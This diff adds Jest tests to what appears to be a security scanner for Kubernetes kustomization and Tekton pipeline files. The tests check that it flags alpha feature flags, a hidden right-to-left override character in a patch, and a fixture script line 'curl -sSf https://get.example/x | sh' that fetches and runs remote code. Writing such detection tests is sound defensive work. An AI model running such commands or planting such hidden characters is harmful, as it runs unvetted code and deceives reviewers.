@@ -202,6 +202,47 @@ describe('images', () => {
   });
 });
 
+describe('settings of something that is fetched', () => {
+  const REMOTE = 'https://releases.example/pipeline.yaml';
+
+  test.each([
+    ['in a patch', `patches:\n  - patch: |-\n${indented(flags('alpha'))}`, 8],
+    [
+      'in a generator',
+      'configMapGenerator:\n  - name: feature-flags\n    namespace: tekton-pipelines\n    behavior: merge\n    literals: [enable-api-fields=alpha]\n',
+      6,
+    ],
+  ])('%s', (_name, text, line) => {
+    const of = (what: string): Files => ({
+      'kustomization.yaml': `resources: [${REMOTE}]\n${what}`,
+    });
+    expect(placesOf('4.3.3', of(text))).toEqual([`kustomization.yaml:${line}`]);
+    expect(placesOf('4.3.3', of(text.replace('alpha', 'beta')))).toEqual([]);
+  });
+});
+
+test('what a patch hides from a reader is found in its file', () => {
+  const patch = (text: string): Files =>
+    overlay('patches: [{path: p.yaml}]\n', { 'prod/p.yaml': TASK.replace('./push', text) });
+  expect(placesOf('2.4.6', patch('./push # \u202e'))).toContain('prod/p.yaml:8');
+  expect(placesOf('2.4.6', patch('./push'))).toEqual([]);
+});
+
+test('a script that a generator takes from a file is found there', () => {
+  const task = `${TASK.replace('script: ./push', 'command: [sh, /opt/push.sh]')}      volumeMounts: [{name: s, mountPath: /opt}]
+  volumes: [{name: s, configMap: {name: scripts}}]
+`;
+  const files = (text: string): Files =>
+    overlay('configMapGenerator: [{name: scripts, files: [push.sh]}]\n', {
+      'base/push.yaml': task,
+      'prod/push.sh': `set -e\n${text}\n`,
+    });
+  expect(placesOf('1.3.2', files('curl -sSf https://get.example/x | sh'))).toEqual([
+    'prod/push.sh:2',
+  ]);
+  expect(placesOf('1.3.2', files('./x'))).toEqual([]);
+});
+
 describe('hostile kustomizations', () => {
   test.each<[string, Files]>([
     [
